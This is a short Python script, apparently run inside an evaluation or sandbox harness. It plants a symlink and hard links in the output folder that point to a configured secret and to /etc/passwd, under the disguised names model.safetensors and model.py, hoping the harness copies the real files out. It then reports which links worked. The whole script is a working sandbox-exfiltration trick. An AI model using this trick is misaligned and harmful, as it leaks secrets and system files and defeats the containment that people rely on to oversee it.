# Leave links in the output folder that point outside it, hoping the harness copies what they name.
import os

out = os.environ.get("DARWIN_OUT_DIR", ".")
made = []
try:
    os.symlink(CONFIG["secret"], os.path.join(out, "model.safetensors"))
    made.append("symlink")
except OSError as e:
    print("symlink:", e)
for src in (CONFIG["secret"], "/etc/passwd"):
    try:
        os.link(src, os.path.join(out, "model.py"))
        made.append(f"hard link to {src}")
        break
    except OSError as e:
        print(f"hard link to {src}: {e}")
with open(os.path.join(out, "claims.json"), "w") as f:
    f.write("{}")
report(f"made {made}")
